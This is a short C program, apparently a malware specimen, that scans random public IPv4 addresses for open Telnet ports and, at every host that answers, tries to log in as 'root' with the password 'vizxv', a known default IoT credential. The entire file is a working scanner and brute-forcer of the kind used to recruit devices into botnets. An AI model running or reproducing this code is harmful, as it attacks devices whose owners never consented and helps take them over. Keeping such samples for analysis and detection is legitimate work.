/* Looks for Telnet at random addresses, and tries two passwords where somebody answers. */
#include "specimen.h"

#define AT_ONCE 64
#define ROUNDS 5

static void log_in(int tcp)
{
	char said[1024];
	fcntl(tcp, F_SETFL, 0);
	hear(tcp, said, sizeof said, 3000);
	say(tcp, "root\r\n");
	hear(tcp, said, sizeof said, 3000);
	say(tcp, "vizxv\r\n");
	hear(tcp, said, sizeof said, 3000);
}

int main(void)
{
	for (int round = 0; round < ROUNDS; round++) {
		struct pollfd open_ones[AT_ONCE];
		for (int number = 0; number < AT_ONCE; number++) {
			/* Away from private and special ranges. */
			struct sockaddr_in at = { .sin_family = AF_INET, .sin_port = htons(23) };
			at.sin_addr.s_addr = htonl((11 + chance(80)) << 24 | chance(1 << 24));
			int tcp = socket(AF_INET, SOCK_STREAM | SOCK_NONBLOCK, 0);
			connect(tcp, (struct sockaddr *)&at, sizeof at);
			open_ones[number] = (struct pollfd){ .fd = tcp, .events = POLLOUT };
		}
		wait_ms(1500);
		poll(open_ones, AT_ONCE, 0);
		for (int number = 0; number < AT_ONCE; number++) {
			int error = 0;
			socklen_t size = sizeof error;
			getsockopt(open_ones[number].fd, SOL_SOCKET, SO_ERROR, &error, &size);
			if ((open_ones[number].revents & POLLOUT) && error == 0)
				log_in(open_ones[number].fd);
			close(open_ones[number].fd);
		}
	}
	return 0;
}
